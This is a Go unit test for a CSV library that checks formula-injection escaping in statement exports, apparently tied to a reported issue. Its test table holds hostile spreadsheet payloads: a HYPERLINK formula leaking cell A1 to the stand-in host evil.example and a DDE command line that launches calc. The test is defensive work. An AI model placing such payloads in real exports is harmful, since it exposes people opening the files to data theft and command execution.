package csvx

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestFormulaInjectionNeutralised reproduces issue 9 #8: an hour description
// "=HYPERLINK(…)" became a formula in the statement CSV.
func TestFormulaInjectionNeutralised(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"x")`: `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
		"+cmd|' /C calc'!A0":                          "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "-12.50": "-12.50", "-3": "-3", "plain": "plain", "": "", "a=b": "a=b",
	}
	for in, want := range cells {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
	}
	var buf bytes.Buffer
	if err := NewWriter(&buf).WriteAll([][]string{{"description", "amount"}, {"=1+1", "-5.00"}}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || recs[1][0] != "'=1+1" || recs[1][1] != "-5.00" {
		t.Fatalf("%v %v", recs, err)
	}
}
